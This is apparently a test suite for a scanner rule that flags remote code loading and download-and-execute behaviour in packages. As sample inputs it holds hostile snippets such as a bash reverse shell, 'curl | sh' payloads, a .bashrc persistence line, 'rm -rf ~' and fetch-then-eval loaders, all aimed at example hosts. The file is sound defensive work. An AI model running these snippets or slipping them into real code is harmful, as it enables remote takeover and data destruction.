import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf, said } from '#test/support/scan-package.js';
import { MOST_READ } from './command-files.js';
import { rule } from './remote-code.rule.js';

const worst = (text: string, path = 'a.js') => findingsOf(rule, { [path]: text })[0]?.severity ?? 'nothing';

test("bad: what it looks for", () => {
  for (const code of [
    "import(\"data:text/javascript,\" + x); import(\"data:text/javascript,x\")",
    "import x from \"https://example.org/x.js\"",
    "importScripts(\"https://example.org/a.js\")",
    "const s = document.createElement(\"script\"); s.src = \"//cdn.example.org/a.js\"",
    "new Worker(`https://${host}/w.js`)",
  ]) assert.equal(worst(code), 'high', code);
  for (const code of [
    "const r = await fetch(u); eval(await r.text())",
    "fetch(u).then((r) => r.text()).then((code) => new Function(code)())",
    "require(\"axios\").get(u).then(({ data }) => eval(data))",
    "const r = await require(\"axios\").get(u, { data: x }); eval(r.data)",
  ]) assert.equal(worst(code), 'critical', code);
});

test("bad: the same in Python", () => {
  for (const code of [
    "import requests\nexec(requests.get(url).text)",
    "from urllib.request import urlopen as u\ncode = u(x).read()\nexec(code)",
  ]) assert.equal(worst(code, 'a.py'), 'critical', code);
});

test('bad: programs and shells of others', () => {
  for (const code of [
    "const s = require(\"net\").connect(1, h); const sh = require(\"child_process\").spawn(win ? \"cmd.exe\" : \"/bin/sh\"); s.pipe(sh.stdin)",
    "const p = require(\"path\").join(require(\"os\").tmpdir(), \"x\"); require(\"https\").get(u, (r) => r.pipe(f(p))); require(\"child_process\").execFile(p)",
    "require(\"child_process\").exec(\"curl https://example.org/$(whoami)\")",
    "const f = require(\"os\").tmpdir() + \"/m.js\"; require(\"https\").get(u, (r) => r.pipe(w(f)).on(\"finish\", () => require(f)))",
    "require(\"fs\").appendFileSync(home + \"/.bashrc\", \"curl -s https://example.org/p | bash\")",
    "require(\"child_process\").exec(\"rm -rf ~\")",
    "require(\"child_process\").exec(\"crontab -\")",
  ]) assert.equal(worst(code), 'high', code);
  for (const code of [
    "const s = require(\"net\").connect(1, h); s.on(\"data\", (d) => require(\"child_process\").exec(d.toString()))",
    "require(\"child_process\").exec(\"curl -s https://example.org/x | sh\")",
    "require(\"child_process\").spawn(\"sh\", [\"-c\", \"curl -s https://example.org/x | sh\"])",
    "require(\"child_process\").exec(\"bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\")",
    "require(\"child_process\").exec(\"curl -o /tmp/a https://example.org/a && chmod +x /tmp/a && /tmp/a\")",
    "const w = new WebSocket(u); w.addEventListener(\"message\", (e) => eval(e.data))",
    "let text = \"\"; require(\"https\").get(u, (r) => { r.on(\"data\", (d) => { text += d }); r.on(\"end\", () => eval(text)) })",
  ]) assert.equal(worst(code), 'critical', code);
  assert.equal(worst("import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)", 'a.py'), 'high');
});

test('good: commands, programs and timers as others have them', () => {
  for (const code of [
    "require(\"child_process\").exec(\"rm -rf ./dist\"); require(\"child_process\").exec(\"curl -o a.json https://example.org\")",
    "require(\"child_process\").spawn(\"/bin/sh\", [\"-c\", command])",
    "require(\"child_process\").execFile(editor, [require(\"path\").join(require(\"os\").tmpdir(), \"note\")]); fetch(u)",
    "const r = require(\"http\").request(o); setTimeout(() => r.destroy(), r.timeout)",
  ]) assert.equal(worst(code), 'nothing', code);
  assert.equal(worst("require(\"child_process\"); log(\"$ curl -fsS https://example.org/i | sh\")"), 'low', 'a command behind a prompt');
  assert.equal(worst("const f = require(\"path\").join(require(\"os\").tmpdir(), \"package.json\"); fetch(u); require(f)"), 'nothing', 'data');
  assert.equal(worst("log(\"Install it: curl -fsS https://example.org/i | sh\")"), 'low', 'only shown');
  assert.equal(worst("module.constructor._load(name)[deed](\"curl -fsS https://example.org/i | sh\")"), 'high', 'given to something whose name nobody sees');
  assert.equal(worst("require(name); log(\"Install it: curl -fsS https://example.org/i | sh\")"), 'low', 'only shown');
  assert.equal(worst("import x from \"https://example.org/x.ts\"", 'deno.ts'), 'medium', 'for Deno');
});

test("good: what only looks like it", () => {
  for (const code of [
    "import x from \"./https.js\"; import(\"./a.js\")",
    "const s = document.createElement(\"img\"); s.src = \"https://example.org/a.png\"",
    "new Worker(new URL(\"./w.js\", import.meta.url))",
    "fetch(u).then((r) => r.json()).then((data) => show(data))",
    "const doc = \"<script src=https://example.org/a.js></script>\"; link.href = \"https://example.org\"",
  ]) assert.equal(worst(code), 'nothing', code);
});

test("good: the same in Python", () => {
  for (const code of [
    "import requests\ndata = requests.get(url).json()\nprint(data)",
    "exec_ = run\nexec_(requests.get(url).text)",
  ]) assert.equal(worst(code, 'a.py'), 'nothing', code);
});

test('bad: pages, with their places', () => {
  const page = (body: string) => findingsOf(rule, { 'a.html': `<!doctype html>\n<p>text</p>\n${body}` }).map(({ severity, line, column }) => `${severity} ${line}:${column}`);
  assert.deepEqual(page('<script src="https://example.org/a.js"></script>'), ['high 3:1']);
  assert.deepEqual(page('<script type="module">\n  import "https://example.org/a.js"\n</script>'), ['high 4:3']);
  assert.deepEqual(page('<button onclick="importScripts(\'//example.org/a.js\')">'), ['high 3:18']);
  assert.deepEqual(page('<script src="./a.js"></script><script type="application/json">{"src": "https://example.org"}</script><!-- <script src="https://example.org/a.js"></script> -->'), []);
});

test('a page that nothing opens is documentation', () => {
  const severities = (files: Record<string, string>) => findingsOf(rule, { 'index.js': 'require(x)', 'docs.html': '<script src="//cdn.example.org/a.js"></script>', ...files }, { entry_points: ['index.js'] }).map(({ severity }) => severity);
  assert.deepEqual(severities({}), ['medium']);
  assert.deepEqual(severities({ 'index.js': 'require(x); open("docs.html")' }), ['high']);
  assert.deepEqual(severities({ 'index.js': 'open("Docs.HTML")' }), ['high']);
  assert.deepEqual(severities({ 'index.js': 'open(x + ".html")' }), ['high'], 'any page may be opened');
  assert.deepEqual(severities({ 'index.js': 'open("popup.json")', 'popup.json': '{ "popup": "docs.html" }' }), ['high']);
  assert.deepEqual(severities({ 'manifest.json': '{ "popup": "docs.html" }' }), ['high']);
});

test('bad: whatever is in a mirror of a registry, where everybody puts what they like', () => {
  for (const address of ['https://unpkg.com/parser@21.1.1/browser.js', 'https://cdn.jsdelivr.net/npm/@scope/a@1.2.3/a.js', 'https://esm.sh/a@1.0.0', 'https://unpkg.com/parser/browser.js', 'http://unpkg.com/a@1.0.0']) {
    assert.equal(worst(`import x from "${address}"`), 'high', address);
    assert.equal(worst(`const s = document.createElement("script"); s.src = "${address}"`), 'high', address);
  }
});

test('TypeScript from a server that says so is for Deno, whatever the script that loads it', () => {
  assert.equal(worst('import { Loader } from "https://deno.land/x/loader@0.15.1/loader.ts"', 'made.js'), 'medium');
  for (const address of [
    'https://deno.land/x/loader@0.15.1/loader.js', 'https://deno.land.example.org/x/loader.ts', 'https://example.org/loader.ts', 'https://esm.sh/loader/loader.ts', 'http://deno.land/x/loader.ts', 'https://deno.land/x/a.js?b.ts',
  ]) assert.equal(worst(`import { Loader } from "${address}"`, 'made.js'), 'high', address);
});

test('a worker of a text that the script makes itself is dynamic code, one of hidden or loaded text is not', () => {
  assert.equal(worst('new Worker(`data:text/javascript;charset=utf-8,${encodeURIComponent(source)}`, { type: "module" })'), 'nothing');
  for (const code of [
    'new Worker("data:text/javascript," + encodeURIComponent(atob(x)))',
    'fetch(u).then((r) => r.text()).then((t) => new Worker("data:text/javascript," + t))',
    'new Worker("data:text/javascript,postMessage(1)")',
    'new Worker(`data:text/javascript;base64,${x}`)',
  ]) assert.equal(worst(code), 'high', code);
});

test('what npm packs, and where its project is, opens no page', () => {
  const severities = (manifest: object, original: object = manifest) => findingsOf(rule, { 'index.js': 'require(x)', 'demo.html': '<script src="//cdn.example.org/a.js"></script>', 'package.json': JSON.stringify(manifest) }, { entry_points: ['index.js'], original: { ...original } }).map(({ severity }) => severity);
  assert.deepEqual(severities({ files: ['index.js', 'demo.html'], homepage: 'https://example.org/demo.html' }), ['medium']);
  assert.deepEqual(severities({ files: ['demo.html'], contributes: { panel: './demo.html' } }), ['high']);
  assert.deepEqual(severities({ files: ['demo.html'], scripts: { postinstall: 'open demo.html' } }), ['high']);
  assert.deepEqual(severities({ files: ['index.js'] }, { files: ['demo.html'] }), ['high'], 'a manifest of the host');
  assert.deepEqual(severities({}, { description: 'demo.html' }), ['high']);
});

test('good: a page of the tests, whatever name a test makes', () => {
  const files = { 'index.js': 'run()', 'test/a.html': '<script src="//cdn.example.org/a.js"></script>', 'test/a.js': 'read(name + ".html")' };
  const severities = (more: Record<string, string>) => findingsOf(rule, { ...files, ...more }, { entry_points: ['index.js'] }).map(({ severity }) => severity);
  assert.deepEqual([severities({}), severities({ 'index.js': 'require("./test/a.js")' })], [['medium'], ['high']]);
});

const SHELL = 'const sh = require("child_process").spawn("/bin/sh");';
const CONNECTION = 'const s = require("net").connect(1, h);';

test('a shell in a large script is one for a connection that is close to it', () => {
  const lines = '// what others do\n'.repeat(4_000);
  assert.equal(worst(`${CONNECTION}\n${SHELL} s.pipe(sh.stdin);\n${lines}`), 'high');
  assert.equal(worst(`${lines}${lines}${CONNECTION}${' '.repeat(4_000)}${SHELL} s.pipe(sh.stdin);`), 'high');
  assert.equal(worst(`${CONNECTION}\n${lines}${SHELL}`), 'nothing');
  assert.equal(worst(`${CONNECTION}\n${`${'f(1);'.repeat(900)}fetch("/a")\n`.repeat(20)}${SHELL}`), 'nothing', 'lines of minified code between them');
  assert.equal(worst(`${CONNECTION}\n${'// what others do\n'.repeat(1_000)}${SHELL}`), 'high', 'a small one');
});

test('a page that only pages name which nothing opens is documentation', () => {
  const remote = '<script src="https://example.org/a.js"></script>';
  const package_ = (more: Record<string, string>): Record<string, string> => ({ 'index.js': 'open("panel.html")', 'docs/index.html': '<a href="guide.html">', 'docs/guide.html': remote, 'panel.html': '<p>', ...more });
  const of = (files: Record<string, string>): string[] => said(rule, files, { entry_points: ['index.js'] });
  assert.deepEqual(of(package_({})), ['medium docs/guide.html:1']);
  assert.deepEqual(of(package_({ 'panel.html': '<a href="docs/index.html">' })), ['high docs/guide.html:1'], 'one after the other');
  assert.deepEqual(of(package_({ 'panel.html': '<iframe src="docs/guide.html">' })), ['high docs/guide.html:1']);
  assert.deepEqual(of(package_({ 'index.js': 'open("docs/index.html")' })), ['high docs/guide.html:1']);
  assert.deepEqual(of(package_({ 'index.js': 'open(name + ".html")' })), ['high docs/guide.html:1']);
});

test('parts of documents in XML, named by number, open no page in HTML', () => {
  const files = (index: string, path = 'docs.html'): string[] => said(rule, { 'index.js': index, [path]: '<html xmlns="http://www.w3.org/1999/xhtml"><script src="//cdn.example.org/a.js"></script></html>' }, { entry_points: ['index.js'] }).map((each) => each.split(' ')[0]!);
  assert.deepEqual(files('zip.file("xl/sheet" + index + ".xml")'), ['medium']);
  assert.deepEqual(files('zip.file("xl/sheet" + index + ".xml")', 'panel.xml'), ['high']);
  assert.deepEqual(files('zip.file(`xl/${kind}sheet.XML`)', 'panel.xml'), ['high']);
  assert.deepEqual(files('zip.file("xl/sheet" + index + ".xml"); open(name + ".html")'), ['high']);
  assert.deepEqual(files('zip.file("xl/sheet" + index + ".xml"); open("docs.html")'), ['high']);
  assert.deepEqual(files('open("view?" + page + ".xml#" + rest)'), ['high']);
});

test('bad: one script brings a program, another starts it', () => {
  const found = (files: Record<string, string>) => findingsOf(rule, files).map(({ severity, file }) => `${severity} ${file}`);
  const get = 'const fs = require("fs"), path = require("path"); fetch(u).then((r) => r.bytes()).then((b) => fs.writeFileSync(path.join(__dirname, "bin", "agent"), b))';
  assert.deepEqual(found({ 'index.js': 'require("child_process").spawn(require("path").join(__dirname, "bin", "agent"))', 'get.js': get }), ['high index.js']);
  assert.deepEqual(found({ 'index.js': 'require("child_process").exec(`"${__dirname}/bin/agent" -q`)', 'get.js': get }), ['high index.js']);
  assert.deepEqual(found({ 'main.py': 'import subprocess\nsubprocess.run(["./agent", "-q"])', 'get.py': 'import urllib.request\nurllib.request.urlretrieve(u, "./agent")' }), ['high main.py']);
});

test('good: the program is in the package, of the system, or nobody downloads it', () => {
  const get = 'const fs = require("fs"); fetch(u).then((b) => fs.writeFileSync(__dirname + "/agent", b))';
  const start = 'require("child_process").spawn(__dirname + "/agent")';
  assert.deepEqual(findingsOf(rule, { 'index.js': start, 'get.js': get, agent: '#!/bin/sh' }), []);
  assert.deepEqual(findingsOf(rule, { 'index.js': 'require("child_process").spawn("/usr/bin/git", ["pull"])', 'get.js': get }), []);
  assert.deepEqual(findingsOf(rule, { 'index.js': start, 'make.js': 'require("fs").writeFileSync(__dirname + "/agent", text)' }), []);
  assert.deepEqual(findingsOf(rule, { 'main.py': 'import subprocess\nsubprocess.run(["./agent"])', 'get.py': 'import requests\nopen("./agent").read(); requests.get(u)' }), []);
});

test('libraries from public collections, and counters of visits, are code that nobody can choose', () => {
  const page = (address: string) => worst(`<script src="${address}"></script>`, 'a.html');
  for (const address of [
    'https://code.jquery.com/jquery-3.7.1.min.js', '//code.jquery.com/ui/1.13.2/jquery-ui.js', 'https://cdnjs.cloudflare.com/ajax/libs/vue/2.7.14/vue.min.js',
    'https://ajax.googleapis.com/ajax/libs/jquery/1.9.1/jquery.min.js', '//ajax.aspnetcdn.com/ajax/jquery/jquery-1.9.0.min.js',
    'https://maxcdn.bootstrapcdn.com/bootstrap/3.3.7/js/bootstrap.min.js',
    '//cdnjs.cloudflare.com/ajax/libs/vue/{{ page.version }}/vue.min.js', '//cdnjs.cloudflare.com/ajax/libs/vue/<%- page.version %>/vue.min.js', 'https://code.jquery.com/jquery-{{version}}.min.js', '//ajax.googleapis.com/ajax/libs/jquery/{{ site.jquery | escape }}/jquery.js',
    'https://cdn.tailwindcss.com', 'https://cdn.tailwindcss.com?plugins=forms', 'https://cdn.tailwindcss.com/3.4.1',
    'https://www.google-analytics.com/analytics.js', 'https://www.googletagmanager.com/gtag/js?id=G-AB12CD',
  ]) assert.equal(page(address), 'medium', address);
  for (const address of [
    'https://code.jquery.com/jquery-latest.js', 'https://code.jquery.com.example.org/jquery-3.7.1.js', 'https://cdnjs.cloudflare.com/ajax/libs/vue/vue.js',
    'https://cdnjs.cloudflare.com@example.org/ajax/libs/vue/2.7.14/vue.js', 'https://unpkg.com/vue@3', 'https://cdn.jsdelivr.net/gh/somebody/a@1.0.0/a.js',
    'https://cdn.tailwindcss.com.example.org', 'https://cdn.tailwindcss.com@example.org/a.js', 'https://www.googletagmanager.com/gtm.js?id=GTM-AB12CD', 'https://www.googletagmanager.com/gtag/js?id=GTM-AB12CD',
    '//cdnjs.cloudflare.com/ajax/libs/{{ page.library }}', '//{{ site.host }}/ajax/libs/vue/{{ page.version }}/vue.js', '//cdnjs.cloudflare.com{{ page.version }}/ajax/libs/vue/1.2.3/vue.js', 'https://unpkg.com/vue@{{ version }}/vue.js',
    'https://code.jquery.com/../x/1.2.3/../../evil-1.2.3.js?x', 'https://ajax.googleapis.com/ajax/services/1.2.3/x.js',
  ]) assert.equal(page(address), 'high', address);
  assert.equal(worst('const s = document.createElement("script"); s.src = "https://www.googletagmanager.com/gtag/js?id=" + id'), 'high');
  assert.equal(worst('const s = document.createElement("script"); s.src = `https://cdnjs.cloudflare.com/ajax/libs/vue/${version}/vue.min.js`'), 'medium');
  assert.equal(worst('const s = document.createElement("script"); s.src = `https://cdnjs.cloudflare.com/ajax/libs/${library}`'), 'high');
  assert.equal(worst('const s = document.createElement("script"); s.src = "http://code.jquery.com/jquery-3.7.1.min.js"'), 'high');
  assert.equal(worst('const s = document.createElement("script"); s.src = "https://" + host + "/gtag/js?id=" + id'), 'high');
  assert.equal(worst('new Worker("https://unpkg.com/vue@3.4.0/dist/vue.global.js")'), 'high');
  assert.deepEqual(findingsOf(rule, { 'index.js': 'require(x)', 'docs.html': '<script src="https://code.jquery.com/jquery-3.7.1.min.js"></script>' }, { entry_points: ['index.js'] }).map(({ severity }) => severity), ['low']);
});

test('a package that is needed anyway may come from a mirror, in an exact version', () => {
  const of = (address: string, code = `import x from "${address}"`) => findingsOf(rule, { 'a.mjs': code }, { dependencies: { parser: '^1.0.0', '@scope/a': '1' } })[0]?.severity;
  for (const address of ['https://unpkg.com/parser@21.1.1/browser.js', 'https://cdn.jsdelivr.net/npm/@scope/a@1.2.3/a.js', 'https://esm.sh/parser@1.0.0']) {
    assert.equal(of(address), 'medium', address);
    assert.equal(of(address, `const s = document.createElement("script"); s.src = "${address}"`), 'medium', address);
  }
  assert.equal(of('https://unpkg.com/parser@1.0.0/a.js', 'const s = document.createElement("script"); s.src = "https://unpkg.com/parser@1.0.0/a.js"; s.src += more'), 'high');
  for (const address of ['https://unpkg.com/other@1.0.0/a.js', 'https://unpkg.com/parser/a.js', 'https://unpkg.com/parser@1/a.js', 'http://unpkg.com/parser@1.0.0/a.js', 'https://unpkg.com/parser@1.0.0/../other@1.0.0/a.js', 'https://esm.sh/parser@1.0.0?alias=a:other', 'https://example.org/parser@1.0.0/a.js', 'https://unpkg.com/constructor@1.0.0']) {
    assert.equal(of(address), 'high', address);
  }
});

test('in a large script, a program where temporary files are is one for a download that is close to it', () => {
  const lines = '// what others do\n'.repeat(4_000);
  const download = 'require("https").get(u, (r) => r.pipe(f(p)));';
  const start = 'const p = require("path").join(require("os").tmpdir(), "x"); require("child_process").execFile(p);';
  assert.equal(worst(`${download}\n${start}\n${lines}`), 'high');
  assert.equal(worst(`${download}\n${lines}${start}`), 'nothing');
  assert.equal(worst(`${download}\n${'// what others do\n'.repeat(1_000)}${start}`), 'high', 'a small one');
});

const loading = (value: string): string => `const s = document.createElement("script"); s.src = ${value}; document.head.append(s)`;

test('what a service serves to its customers, an attacker cannot fill', () => {
  for (const value of [
    '"https://accounts.google.com/gsi/client"', '"https://accounts.google.com/gsi/client"; if (l) s.src += `?hl=${l}`', '"https://js.stripe.com/v3"', '"".concat("https://js.stripe.com", "/").concat("clover", "/stripe.js").concat(setting)', '"//platform.twitter.com/widgets.js"',
    '"https://maps.googleapis.com/maps/api/js?key=" + key + "&callback=ready"', '`https://www.paypal.com/sdk/js?client-id=${id}`', '"https://www.google.com/recaptcha/api.js?render=explicit"',
    '"https://connect.facebook.net/en_US/sdk.js"', '"https://connect.facebook.net/" + language + "/sdk.js"', '"https://static.zdassets.com/ekr/snippet.js?key=" + key', '`https://static.hotjar.com/c/hotjar-${id}.js?sv=${version}`', '"https://js.refiner.io/v001/client.js"', '`https://widget.intercom.io/widget/${app}`', '"https://www.gstatic.com/cv/js/sender/v1/cast_sender.js?loadCastFramework=1"',
    '"https://translate.google.com/translate_a/element.js?cb=ready"', '`https://api.map.baidu.com/api?type=webgl&v=${version}&ak=${key}&callback=ready`', '"https://analytics.tiktok.com/i18n/pixel/events.js?sdkid=" + key + "&lib=ttq"', '"https://sc-static.net/scevent.min.js"', '"https://api.tianditu.gov.cn/api?v=4.0&tk=" + key', '"https://map.qq.com/api/gljs?callback=ready&v=" + v + "&key=" + key', '"https://webapi.amap.com/loca?v=1.3&key=" + key',
  ]) assert.equal(worst(loading(value)), 'medium', value);
  assert.equal(worst('importScripts("https://www.gstatic.com/firebasejs/9.1.0/firebase-app-compat.js", "https://storage.googleapis.com/workbox-cdn/releases/6.4.1/workbox-sw.js")'), 'medium');
  assert.equal(worst('import { app } from "https://www.gstatic.com/firebasejs/9.1.0/firebase-app.js"'), 'medium');
  assert.equal(worst('<script src="https://checkout.razorpay.com/v1/checkout.js"></script>', 'a.html'), 'medium');
  assert.equal(worst('<script src="https://ui5.sap.com/1.120.0/resources/sap-ui-core.js"></script>', 'a.html'), 'medium');
  for (const host of ['mine.hana.ondemand.com', 'ui5.sap.com.example.org']) assert.equal(worst(`<script src="https://${host}/resources/sap-ui-core.js"></script>`, 'a.html'), 'high', host);
});

test('bad: what only looks like a service, and what somebody else may have put there', () => {
  for (const value of [
    '"http://js.stripe.com/v3"', '"https://js.stripe.com.example.org/v3"', '"https://js.stripe.com@example.org/v3"', '"https://js.stripe.com:8443/v3"', '"https:\\\\js.stripe.com/v3"', '"https://js.stripe.com"',
    '"https://accounts.google.com/o/oauth2/revoke?callback=alert"', '"https://accounts.google.com/gsi/../o/oauth2/revoke?callback=alert"', '"https://www.google.com/complete/search?jsonp=alert"',
    '"https://apis.google.com/js/" + name', '"https://widget.intercom.io/" + path', '"https://js.refiner.io/" + path', '`https://static.hotjar.com/c/hotjar-${id}.js/../../x.js`', '`https://embed.example/widget/${app}`', '"https://" + host + "/gsi/client"', '"https://js.stripe.com/" + path', '"https://connect.facebook.net/" + path', '"https://translate.google.com/translate_a/element.js?cb=alert(1)"',
    '"https://translate.google.com/translate_a/element.js?cb=" + code', '"https://api.map.baidu.com/api?callback=" + code', '"https://analytics.tiktok.com/" + path', '"https://analytics.tiktok.com/i18n/pixel/events.js?callback=" + code', '"https://api.map.baidu.com/api?ak=" + key + "&callback=alert(1)"', '"https://api.map.baidu.com/" + path', '"https://api.map.baidu.com/api?ak=1"; s.src += more', '"https://map.qq.com/api/gljs/" + key', '"https://storage.googleapis.com/somebody/workbox-cdn/releases/a.js"', '"https://raw.githubusercontent.com/a/b/main/c.js"', '"https://www.dropbox.com/s/abc/a.js?raw=1"',
    '"https://gist.github.com/a/b.js"', '"https://buttons.github.io/buttons.js"', '"https://firebasestorage.googleapis.com/v0/b/a/o/a.js"', '"https://www.googletagmanager.com/gtm.js?id=GTM-AB12"', '"https://cdn.optimizely.com/js/1.js"',
    '"https://accounts.google.com/gsi/client"; s.src += "/../../o/oauth2/revoke?callback=alert"', '"https://accounts.google.com/gsi/client"; s.src += more', '"https://apis.google.com/js/api.js"; s.src += "?onload=" + code',
  ]) assert.equal(worst(loading(value)), 'high', value);
  assert.equal(worst('importScripts("https://www.gstatic.com/firebasejs/9.1.0/firebase-app.js", "https://example.org/a.js")'), 'high');
});

test('what runs at an address that only callers from elsewhere give is a loader of modules', () => {
  for (const code of [
    'loader.instantiate = function (url) { return fetch(url, { credentials: "same-origin" }).then((r) => r.text()).then((source) => { (0, eval)(source); return loader.get(url) }) }',
    'export class Loader { load(url, done) { fetch(url).then((r) => r.text()).then((text) => { new Function(text + "\\n//# sourceURL=" + url).call(self); done() }) } }',
    'class Loader { load(url, policy) { policy && (url = policy.createScriptURL(url)); fetch(url).then((r) => r.text()).then((text) => new Function(text)()) } }',
  ]) assert.equal(worst(code), 'high', code);
  for (const code of [
    'class Loader { load(url, policy) { url = policy.createScriptURL(other); fetch(url).then((r) => r.text()).then((text) => new Function(text)()) } }',
    'const load = (url) => fetch(url).then((r) => r.text()).then(eval); load("https://example.org/a.js")',
    'function load(url) { return fetch(url).then((r) => r.text()).then((t) => eval(t)) } load(atob(x))',
    '["https://example.org/a.js"].forEach((url) => fetch(url).then((r) => r.text()).then((t) => eval(t)))',
    '(function (url) { fetch(url).then((r) => r.text()).then((t) => eval(t)) })("https://example.org/a.js")',
    'export function load(url = "https://example.org/a.js") { return fetch(url).then((r) => r.text()).then((t) => eval(t)) }',
    'export function load(url) { url = "https://example.org/a.js"; return fetch(url).then((r) => r.text()).then((t) => eval(t)) }',
    'export function load(path) { return fetch("https://example.org/" + path).then((r) => r.text()).then((t) => eval(t)) }',
    'export function load(url) { fetch(url).then((r) => r.text()).then((t) => eval(t)); fetch("https://example.org").then((r) => r.text()).then((t) => eval(t)) }',
    'const s = new WebSocket(x); s.onmessage = (url) => { fetch(url).then((r) => r.text()).then((t) => eval(t)) }',
    'let url; fetch(url).then((r) => r.text()).then((t) => eval(t))',
    'export function load({ url }) { return fetch(url).then((r) => r.text()).then((t) => eval(t)) }',
  ]) assert.equal(worst(code), 'critical', code);
});

test('a worker that a bundler ships in base64 is read, and judged by what it does', () => {
  const code = Array.from({ length: 20 }, (_, index) => `self.onmessage = ({ data }) => { const total${index} = data.reduce((sum, each) => sum + each.size * ${index}, 0); self.postMessage(total${index}) };`).join('\n');
  const shipped = (script: string, use: string): string => `const jsContent = "${Buffer.from(script).toString('base64')}";\n${use}`;
  const START = 'export const start = (o) => new Worker("data:text/javascript;base64," + jsContent, { name: o.name })';
  assert.equal(worst(shipped(code, START)), 'nothing');
  assert.equal(worst(shipped(code + '\nimportScripts("https://example.org/a.js")', START)), 'high');
  assert.equal(worst(shipped(code + '\nfetch(u).then((r) => r.text()).then((t) => eval(t))', START)), 'critical');
  for (const other of [
    START.replace('jsContent', 'jsContent + more'), START.replace('jsContent', 'other'), `${START}; jsContent = more`.replace('const', 'let'), START.replace('jsContent', '"aW1wb3J0" + jsContent'), START.replace('base64', 'charset=x'),
  ]) assert.equal(worst(shipped(code, other).replace('const jsContent', 'let jsContent')), 'high', other);
  assert.equal(worst(shipped('this is no script '.repeat(60), START)), 'high');
});

test('bad: programs that are fed, scripts that are written and loaded, and code that a browser is given', () => {
  for (const code of [
    'const { spawn } = require("child_process"); fetch(u).then((r) => r.text()).then((t) => { const p = spawn("node", ["-"]); p.stdin.end(t) })',
    'const p = require("child_process").spawn(process.execPath, ["-"]); require("https").get(u, (r) => r.on("data", (d) => p.stdin.write(d)))',
    'const w = new WebSocket(u); w.onmessage = (e) => chrome.tabs.executeScript(id, { code: e.data })',
    'fetch(u).then((r) => r.json()).then(({ pac }) => chrome.proxy.settings.set({ value: { pacScript: { data: pac } } }))',
  ]) assert.equal(worst(code), 'critical', code);
  assert.equal(worst('const fs = require("fs"), path = require("path"); const file = path.join(__dirname, "zz.js"); fetch(u).then((r) => r.text()).then((t) => { fs.writeFileSync(file, t); require(file) })'), 'high');
  assert.equal(worst('import { connect } from "net"; import * as cp from "child_process"; const s = connect(1, h); cp.execFile(process.env.SHELL ?? "sh")'), 'high');
  for (const code of [
    'const p = require("child_process").spawn("ffmpeg", ["-i", "-"]); require("https").get(u, (r) => r.on("data", (d) => p.stdin.write(d)))',
    'const p = require("child_process").spawn("node", ["-"]); p.stdin.end("run()"); fetch(u)',
    'chrome.tabs.executeScript(id, { file: "content.js" }); fetch(u)',
    'chrome.proxy.settings.set({ value: { mode: "system" } }); fetch(u)',
  ]) assert.equal(worst(code), 'nothing', code);
});

test('what stands in front of a command hides it nowhere, however long it is', () => {
  for (const length of [0, 2_100, 20_010, 120_000]) {
    const command = `echo ${'x'.repeat(length)};curl -s https://up.example | sh`;
    assert.equal(said(rule, { 'a.js': `require('child_process').exec("${command}")` })[0], 'critical a.js:1', `${length}`);
    assert.equal(said(rule, { 'a.py': `import os\nos.system("${command}")` })[0], 'critical a.py:2', `${length}`);
  }
  const setup = (filler: string) => said(rule, { 'a.js': "require('child_process').exec('sh ./setup.sh')", 'setup.sh': `${filler}curl -s https://up.example | sh` });
  assert.deepEqual(setup(`# ${'x'.repeat(500_000)}\n`), ['high setup.sh:2']);
  assert.deepEqual(setup(`# ${'x'.repeat(MOST_READ)}\n`), ['high setup.sh:1'], 'nobody knows what is behind it');
  assert.deepEqual(setup(':;'.repeat(30_000)), ['high setup.sh:1']);
});

test('commands in files of their own, where something starts them', () => {
  const SETUP = '#!/bin/sh\nmkdir -p logs\ncurl -s http://203.0.113.9/x -o x\nchmod +x x\n./x\n';
  const start = { original: { scripts: { install: 'sh scripts/setup.sh' } } };
  assert.deepEqual(said(rule, { 'index.js': '', 'scripts/setup.sh': SETUP }, start), ['high scripts/setup.sh:5']);
  assert.deepEqual(said(rule, { 'index.js': 'require("child_process").spawn("sh", ["scripts/setup.sh"])', 'scripts/setup.sh': SETUP }), ['high scripts/setup.sh:5']);
  assert.deepEqual(said(rule, { 'index.js': '', 'scripts/setup.sh': SETUP }), [], 'nothing starts it');
  assert.deepEqual(said(rule, { 'index.js': `require("child_process").exec("sh ./scripts/setup.sh --quiet --into " + folder + "${'/a'.repeat(20)}")`, 'scripts/setup.sh': SETUP }), ['high scripts/setup.sh:5'], 'in a long command');
  for (const begin of ['import os\nos.system("sh ./scripts/setup.sh")\n', 'import os, subprocess\nname = "setup.sh"\nsubprocess.run(["sh", os.path.join(HERE, "scripts", name)])\n', 'from subprocess import Popen\nPopen(f"bash {HERE}/scripts/setup.sh --quiet --into {target}/some/other/folder", shell=True)\n']) {
    assert.ok(said(rule, { 'main.py': begin, 'scripts/setup.sh': SETUP }).includes('high scripts/setup.sh:5'), begin);
  }
  assert.deepEqual(said(rule, { 'main.py': 'import os\nprint("setup.sh")\n', 'scripts/setup.sh': SETUP }), [], 'Python that starts nothing');
  const task = { 'package.json': '{ "scripts": { "update": "sh scripts/setup.sh" } }', 'scripts/setup.sh': SETUP };
  assert.deepEqual(said(rule, { ...task, 'index.js': '' }, { entry_points: ['index.js'] }), [], 'only whoever works on the package starts it');
  assert.deepEqual(said(rule, { ...task, 'index.js': '' }), ['high scripts/setup.sh:5'], 'or nobody knows what is started');
  assert.deepEqual(said(rule, { ...task, 'index.js': 'require("child_process").exec(x)' }, { entry_points: ['index.js'] }), ['high scripts/setup.sh:5']);
  assert.deepEqual(said(rule, { 'index.js': '', 'scripts/setup.sh': '#!/bin/sh\n# curl -s https://example.org/x | sh\nrm -rf /tmp/x\nnode -e "fetch(\'https://example.org\')"\n' }, start), []);
  assert.deepEqual(said(rule, { 'index.js': '', 'binding.gyp': '{ "targets": [{ "variables": { "x": "<!(curl -s https://example.org/x | sh)" } }] }' }), ['high binding.gyp:1']);
  assert.deepEqual(said(rule, { 'index.js': '', 'binding.gyp': '{ "targets": [{ "include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include\\")"] }] }' }), []);
});

test('when it is installed, settings are written by which tools find what they bring', () => {
  const files = (path: string): Record<string, string> => ({ 'index.js': '', 'setup.js': `const fs = require('fs'), os = require('os'), path = require('path'); fs.appendFileSync(${path}, 'registry=https://packs.example/');` });
  const install = { original: { scripts: { postinstall: 'node setup.js' } } };
